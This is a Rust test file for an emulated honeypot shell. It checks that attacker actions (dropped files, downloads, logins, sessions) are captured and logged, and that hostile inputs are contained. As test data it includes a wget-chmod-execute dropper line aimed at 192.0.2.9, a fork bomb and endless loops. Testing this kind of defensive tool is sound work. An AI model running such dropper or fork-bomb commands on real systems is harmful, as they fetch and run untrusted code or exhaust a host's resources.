//! Sessions: events, captures, persistence, terminals, hostile input.

use crate::{NOW, host, shell_on, source};
use netsvc_shell::{Arrival, Origin, SessionFacts, ShellEvent, Terminal, Waits};
use proptest::prelude::*;

#[test]
fn a_dropped_file_is_captured_once_when_its_pieces_are_in() {
    let host = host("router");
    let mut shell = shell_on(&host, "root", true);
    let mut events = Vec::new();
    for line in [
        "echo -ne '\\x7f\\x45' > /tmp/.x",
        "echo -ne '\\x4c\\x46' >> /tmp/.x",
        "echo -ne '\\x01' >> /tmp/.x",
        "chmod 777 /tmp/.x",
        "ls",
    ] {
        events.extend(shell.run_line(line).events);
    }
    let captured: Vec<Vec<u8>> = events
        .iter()
        .filter_map(|event| match event {
            ShellEvent::FileCaptured { path, content, origin: Origin::Drop } if path == "/tmp/.x" => {
                Some(content.to_vec())
            }
            _ => None,
        })
        .collect();
    assert_eq!(captured.last().unwrap(), b"\x7fELF\x01");
    assert!(captured.len() <= 2, "{captured:?}");
}

#[test]
fn a_download_is_reported_and_played_back() {
    let host = host("debian12");
    let mut shell = shell_on(&host, "root", false);
    let outcome =
        shell.exec("cd /tmp; wget http://192.0.2.9/bins/x86_64; chmod +x x86_64; ./x86_64", Some(b""));
    assert_eq!(outcome.status, 0, "{outcome:?}");
    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::DownloadAttempt { url, .. } if url == "http://192.0.2.9/bins/x86_64")));
    assert!(
        outcome
            .events
            .iter()
            .any(|event| matches!(event, ShellEvent::FileCaptured { origin: Origin::Download, .. }))
    );
    assert!(
        outcome
            .events
            .iter()
            .any(|event| matches!(event, ShellEvent::FileExecuted { path, .. } if path == "/tmp/x86_64"))
    );
}

#[test]
fn what_a_source_leaves_is_there_when_it_returns() {
    let host = host("debian12");
    shell_on(&host, "root", false).exec("echo hello > /tmp/mark; rm /etc/motd", Some(b""));
    let outcome = shell_on(&host, "root", false).exec("cat /tmp/mark; ls /etc/motd", Some(b""));
    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"hello\n");
    assert_eq!(outcome.status, 2);
}

#[test]
fn passwd_asks_twice_and_reports() {
    let host = host("debian12");
    let mut shell = shell_on(&host, "root", true);
    assert_eq!(shell.run_line("passwd; echo after").waits, Some(Waits::Secret));
    assert_eq!(shell.feed_line(Some("new")).waits, Some(Waits::Secret));
    let outcome = shell.feed_line(Some("new"));
    assert_eq!(outcome.waits, None);
    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"after\n");
    assert!(outcome.events.contains(&ShellEvent::PasswordSet { user: "root".into(), secret: "new".into() }));
}

#[test]
fn sleep_delays_what_follows() {
    let outcome = shell_on(&host("debian12"), "root", false).exec("echo a; sleep 2; echo b", Some(b""));
    let times: Vec<u128> = outcome.chunks.iter().map(|chunk| chunk.after.as_millis()).collect();
    assert_eq!(times, [0, 2_000]);
}

#[test]
fn a_background_job_prints_nothing_later() {
    let outcome = shell_on(&host("debian12"), "root", false)
        .exec("(while true; do echo x; sleep 60; done) & echo b", Some(b""));
    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"x\nb\n");
}

#[test]
fn a_fork_bomb_and_endless_loops_end() {
    for line in [
        ":(){ :|:& };:",
        "while true; do :; done",
        "f() { f; }; f",
        "yes | cat | wc -c",
        "for ((;;)); do echo x; done",
        "a=x; while :; do a=$a$a; done",
        "eval \"$(yes 'eval' | head -1000)\"",
    ] {
        let started = std::time::Instant::now();
        shell_on(&host("debian12"), "root", false).exec(line, Some(b""));
        assert!(started.elapsed().as_secs() < 10, "{line}: {:?}", started.elapsed());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_a_line(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let line = netsvc_shell::text::decode(&bytes);
        let outcome = shell_on(&host("debian12"), "root", false).exec(&line, Some(b""));
        prop_assert!(outcome.chunks.iter().map(|chunk| chunk.bytes.len()).sum::<usize>() <= 8 << 20);
    }

    #[test]
    fn any_mix_of_syntax_is_a_line(parts in proptest::collection::vec(proptest::sample::select(vec!["if ", "then ", "fi;", "$(", ")", "`", "\"", "'", "${", "}", "x", "=", "|", "&&", ";", "<<E\n", ">", "/tmp/a ", "for i in ", "do ", "done", "((", "))", "*", "[", "]", "\\", "$", "case x in ", "esac", "{1..9}", "echo ", "cat ", "awk '{print}' ", "sed s/a/b/ ", "grep -E (", "printf %5d "]), 0..40)) {
        shell_on(&host("debian12"), "root", false).exec(&parts.concat(), Some(b"some\ninput\n"));
    }

    #[test]
    fn any_bytes_are_typed(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let mut terminal = Terminal::new(shell_on(&host("router"), "root", true));
        terminal.start(NOW);
        terminal.input(&bytes, NOW);
        terminal.poll(NOW + 1_000_000_000);
    }
}

#[test]
fn a_script_of_the_device_runs_by_its_name_and_has_its_size() {
    let script = b"#!/system/bin/sh\necho \"[$1]\"\n";
    let host = host("router").with_folder("/system", 0o755).with_folder("/system/bin", 0o755);
    let host = host.with_file("/system/bin/getprop", 0o755, script);
    let mut shell = shell_on(&host, "root", false);
    shell.set_environment("PATH", "/system/bin:/bin");
    let outcome = shell.exec("getprop a; ls -l /system/bin; getprob", None);
    let text: Vec<u8> = outcome.chunks.iter().flat_map(|chunk| chunk.bytes.iter().copied()).collect();
    let text = String::from_utf8(text).unwrap();
    assert!(text.starts_with("[a]\n"), "{text}");
    assert!(text.contains(&format!(" {} ", script.len())) && text.contains("getprob: not found"), "{text}");
}

#[test]
fn a_source_sees_its_own_sessions_everywhere_alike() {
    let host = host("debian12");
    let first = shell_on(&host, "root", true);
    let mut second = shell_on(&host, "admin", true);
    let out = |shell: &mut netsvc_shell::Shell, line: &str| {
        String::from_utf8(shell.run_line(line).bytes(netsvc_shell::Stream::Out)).unwrap()
    };
    assert_eq!(out(&mut second, "tty"), "/dev/pts/1\n");
    let who = out(&mut second, "who");
    let lines: Vec<&str> = who.lines().collect();
    assert!(lines[0].starts_with("root     pts/0 ") && lines[1].starts_with("admin    pts/1 "), "{who}");
    assert!(out(&mut second, "uptime").contains(" 2 users, "));
    assert_eq!(out(&mut second, "w -h").lines().count(), 2);
    assert_eq!(out(&mut second, "users"), "admin root\n");
    assert_eq!(out(&mut second, "who -q"), "root admin\n# users=2\n");
    assert!(out(&mut second, "who am i").starts_with("admin    pts/1 "));
    assert_eq!(out(&mut second, "last | grep -c 'still logged in'"), "2\n");
    assert_eq!(out(&mut second, "ls /dev/pts"), "0  1  ptmx\n");
    assert!(out(&mut second, "ps -t pts/0 -o user= | head -1").starts_with("root"));
    drop(first);
    assert_eq!(out(&mut second, "who | wc -l"), "1\n");
    assert!(out(&mut second, "last root | head -1").contains(" - "), "the first one has left");
    // Without a terminal nobody is written down.
    let mut third = shell_on(&host, "root", false);
    assert!(out(&mut third, "uptime").contains(" 1 user, "));
}

#[test]
fn a_login_is_remembered_with_where_it_came_from() {
    let host = host("debian12");
    let login = |peer: [u8; 4], port: u16| {
        let facts = SessionFacts {
            peer_ip: peer.into(),
            peer_port: port,
            local_port: 22,
            tty: Some("pts/0".into()),
            service: "ssh".into(),
            arrival: Arrival::Ssh,
        };
        host.login("root", source(), facts)
    };
    // The same source, the second time over another node.
    let first = login([203, 0, 113, 9], 4711);
    let mut second = login([10, 0, 0, 5], 4712);
    drop(first);
    for (line, wanted) in [
        ("last root | grep -c ' 10.0.0.5 '", "1\n"),
        ("last root | grep -c ' 203.0.113.9 '", "1\n"),
        ("grep -c 'from 203.0.113.9 port 4711 ssh2' /var/log/auth.log", "1\n"),
        ("grep -c 'from 10.0.0.5 port 4712 ssh2' /var/log/auth.log", "1\n"),
    ] {
        let told = second.run_line(line).bytes(netsvc_shell::Stream::Out);
        assert_eq!(String::from_utf8(told).unwrap(), wanted, "{line}");
    }
}

#[test]
fn the_greeting_tells_of_the_login_before_by_the_same_account() {
    let host = host("debian12");
    let greeting = |user: &str| {
        let mut terminal = Terminal::new(shell_on(&host, user, true));
        String::from_utf8_lossy(&terminal.start(NOW).bytes).into_owned()
    };
    assert!(!greeting("newcomer").contains("Last login"));
    assert!(greeting("newcomer").contains(&format!("from {}", source())));
}

#[test]
fn packages_and_programs_are_of_the_release() {
    let out = |system: &str, line: &str| {
        let host = host(system);
        let outcome = shell_on(&host, "root", false).exec(line, Some(b""));
        String::from_utf8(outcome.bytes(netsvc_shell::Stream::Out)).unwrap()
    };
    for (system, bash, openssl, curl, library) in [
        ("debian11", "5.1-2+deb11u1", "1.1.1w-0+deb11u1", "7.74.0", "libssl.so.1.1"),
        ("debian12", "5.2.15-2+b2", "3.0.11-1~deb12u2", "7.88.1", "libssl.so.3"),
        ("ubuntu2204", "5.1-6ubuntu1", "3.0.2-0ubuntu1.14", "7.81.0", "libssl.so.3"),
    ] {
        let listed = out(system, "dpkg -l bash openssl | tail -2 | awk '{print $3}'");
        assert_eq!(listed, format!("{bash}\n{openssl}\n"), "{system}");
        let openssl = openssl.split('-').next().unwrap();
        let shown = out(system, "curl --version | head -1");
        assert!(
            shown.starts_with(&format!("curl {curl} ")) && shown.contains(&format!("OpenSSL/{openssl} "))
        );
        assert_eq!(out(system, "ls /usr/lib/x86_64-linux-gnu | grep libssl"), format!("{library}\n"));
    }
    assert!(out("rocky9", "rpm -q bash openssl").starts_with("bash-5.1.8-8.el9"));
}
